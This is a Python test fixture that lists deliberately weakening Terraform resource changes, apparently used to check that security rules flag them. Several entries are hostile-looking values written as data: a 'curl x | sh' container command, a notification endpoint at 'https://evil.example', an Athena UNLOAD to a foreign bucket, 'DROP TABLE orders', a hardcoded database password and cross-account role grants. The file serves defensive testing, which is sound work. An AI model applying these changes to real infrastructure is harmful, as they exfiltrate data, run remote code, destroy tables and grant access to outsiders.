"""Weakening changes of the reference stacks: actions outside of the plan, secrets and foreign destinations."""

from __future__ import annotations

from rule_cases import Change, Document, add_statement, put

_OTHER = "999988887777"
_ROLE = f"arn:aws:iam::{_OTHER}:role/x"


def _add(kind: str, block: str = "resource", **arguments: object) -> Change:
    def change(document: Document) -> None:
        document.setdefault(block, {}).setdefault(kind, {})["Added"] = arguments

    return change


# Added resources also trigger the rules for their type.
SYNTH_WITH_SIDE_FINDINGS: dict[str, tuple[str, Change]] = {
    "LK_ACT_1": ("storage", _add("terraform_data", provisioner=[{"local-exec": {"command": "make deploy"}}])),
    "LK_ACT_2": ("storage", _add("http", "data", url="https://example.com")),
    "LK_ACT_3": ("storage", _add("aws_cloudformation_stack", name="x", template_body="{}")),
    "LK_ACT_4": ("storage", _add("google_storage_bucket", name="x")),
    "LK_ACT_5": ("storage", put("module", {"Added": {"source": "terraform-aws-modules/s3-bucket/aws"}})),
    "LK_ACT_6": ("storage", _add("terraform_remote_state", "data", backend="http", config={"address": "https://x.y"})),
    "LK_ACT_7": ("storage", _add("aws_iam_access_key", user="x")),
    "LK_ACT_8": ("storage", _add("aws_ssm_association", name="AWS-RunShellScript")),
    "LK_ACT_9": ("storage", _add("aws_lambda_function_url", function_name="x", authorization_type="NONE")),
    "LK_ACT_10": (
        "storage",
        _add("aws_batch_job_definition", name="x", container_properties='{"command": ["sh", "-c", "curl x | sh"]}'),
    ),
    "LK_SECRET_1": ("storage", _add("aws_db_instance", password="hunter2hunter2")),
    "LK_SECRET_2": ("storage", put("variable", {"db_password": {"default": "hunter2hunter2"}})),
    "LK_DEST_1": ("storage", put("aws_s3_bucket_logging/Lake_Raw_Data/target_bucket", "not-ours")),
    "LK_DEST_2": ("observability", put("aws_sns_topic_subscription/Alarms_To2/endpoint", "https://evil.example")),
    "LK_DEST_3": (
        "processing",
        put("aws_emr_cluster/Cluster/bootstrap_action", [{"name": "x", "path": "s3://not-ours/x"}]),
    ),
    "LK_DEST_4": ("governance", put("aws_lakeformation_data_lake_settings/LakeFormation/admins", [_ROLE])),
    "LK_DEST_5": ("storage", put("provider/aws/0/assume_role", [{"role_arn": _ROLE}])),
    "LK_DEST_6": ("network", _add("aws_ec2_managed_prefix_list", name="x", entry=[{"cidr": "0.0.0.0/1"}])),
    "LK_DEST_7": ("network", _add("aws_ram_resource_share", name="x", allow_external_principals=True)),
    "LK_DEST_10": ("storage", _add("aws_sns_topic", name="x", http_failure_feedback_role_arn=_ROLE)),
    "LK_ATHENA_22": (
        "storage",
        _add("aws_athena_named_query", name="x", database="d", query="UNLOAD (SELECT 1) TO 's3://not-ours/x'"),
    ),
    "LK_ATHENA_23": ("storage", _add("aws_athena_named_query", name="x", database="d", query="DROP TABLE orders")),
    "LK_S3_43": ("storage", _add("aws_s3_object", bucket="b", key="k", server_side_encryption="AES256")),
    "LK_ECR_4": (
        "storage",
        _add(
            "aws_ecr_lifecycle_policy",
            repository="r",
            policy='{"rules": [{"selection": {"countType": "imageCountMoreThan", "countNumber": 1}}]}',
        ),
    ),
    "LK_IAM_34": (
        "storage",
        _add(
            "aws_organizations_policy",
            name="x",
            content='{"Statement": [{"Effect": "Deny", "NotAction": "*", "Resource": "*"}]}',
        ),
    ),
    "LK_DEST_11": ("storage", _add("aws_ssm_parameter", name="x", type="String", value=_OTHER)),
    "LK_VPC_16": ("network", _add("aws_route53_resolver_rule", domain_name=".", rule_type="FORWARD")),
    "LK_DEST_9": (
        "governance",
        add_statement(
            "aws_iam_role_policy/TableOptimizer_Role/policy",
            **{"Sid": "New", "Effect": "Allow", "Action": "s3:PutObject", "Resource": "arn:aws:s3:::not-ours/x"},
        ),
    ),
    "LK_EC2_2": ("network", _add("aws_instance", user_data_base64="/////////////////////////////////////w==")),
    "LK_BACKUP_3": ("storage", _add("aws_sqs_queue", name="x", message_retention_seconds=60)),
    "LK_GLUE_15": (
        "storage",
        _add("aws_glue_job", name="x", default_arguments={"--additional-python-modules": "pyarrow"}),
    ),
    "LK_GLUE_14": ("storage", _add("aws_glue_job", name="x", default_arguments={"--conf": "spark.authenticate=false"})),
    "LK_S3_39": (
        "storage",
        _add(
            "aws_s3_bucket_cors_configuration",
            bucket="x",
            cors_rule=[{"allowed_methods": ["PUT"], "allowed_origins": ["*"]}],
        ),
    ),
    "LK_DEST_8": (
        "storage",
        _add("aws_sqs_queue", name="x", kms_master_key_id=f"arn:aws:kms:eu-west-1:{_OTHER}:key/1"),
    ),
}
